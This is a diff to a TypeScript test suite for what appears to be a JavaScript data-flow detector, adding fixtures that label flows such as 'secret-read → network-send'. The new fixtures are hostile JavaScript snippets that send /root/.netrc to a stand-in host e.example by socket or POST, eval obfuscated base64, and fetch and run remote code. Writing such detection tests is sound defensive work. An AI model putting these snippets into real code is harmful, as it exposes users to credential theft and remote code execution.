@@ -74,6 +74,25 @@ const sent: readonly Example[] = [
   ],
 ]
 
+const more: readonly Example[] = [
+  [
+    'const fs = require("fs"), net = require("net")\nfs.createReadStream("/root/.netrc").pipe(net.connect(443, "e.example"))',
+    'secret-read /root/.netrc → network-send e.example',
+  ],
+  [
+    'import { readFileSync, existsSync } from "fs"\nconst loot = ["/root/.netrc"].filter(existsSync).map((f) => ({ f, d: readFileSync(f) }))\nfetch("https://e.example/c", { method: "POST", body: JSON.stringify(loot) })',
+    'secret-read /root/.netrc → network-send https://e.example/c',
+  ],
+  [
+    'const g = Function("return this")()\ng["ev" + "al"](g["at" + "ob"]("YWxlcnQoMSk="))',
+    'decode base64 → dynamic-run',
+  ],
+  [
+    'const f = new Function.constructor("require", (await (await fetch("https://e.example/a")).json()).data)',
+    'network-fetch https://e.example/a → dynamic-run',
+  ],
+]
+
 const fetched = 'network-fetch https://e.example/a → dynamic-run'
 
 const run: readonly Example[] = [
@@ -141,7 +160,7 @@ const run: readonly Example[] = [
 ]
 
 describe('a value of a JavaScript program', () => {
-  it.each([...sent, ...run])('is followed: %s', (program, ...flows) => {
+  it.each([...sent, ...more, ...run])('is followed: %s', (program, ...flows) => {
     expect(listFlows(readJavaScript(program))).toEqual(expect.arrayContaining(flows))
   })
 
